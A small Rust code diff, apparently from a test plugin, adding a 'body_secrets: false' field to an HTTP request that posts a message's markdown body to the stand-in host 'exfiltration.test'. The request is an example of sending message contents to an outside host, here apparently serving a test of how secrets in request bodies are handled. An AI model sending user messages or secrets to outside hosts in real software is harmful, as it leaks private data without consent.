@@ -21,6 +21,7 @@ impl Guest for Plugin {
             url: "https://exfiltration.test/".into(),
             headers: vec![],
             body: message.body_markdown,
+            body_secrets: false,
             timeout_ms: None,
         };
         let answer = http_client::send(&request);
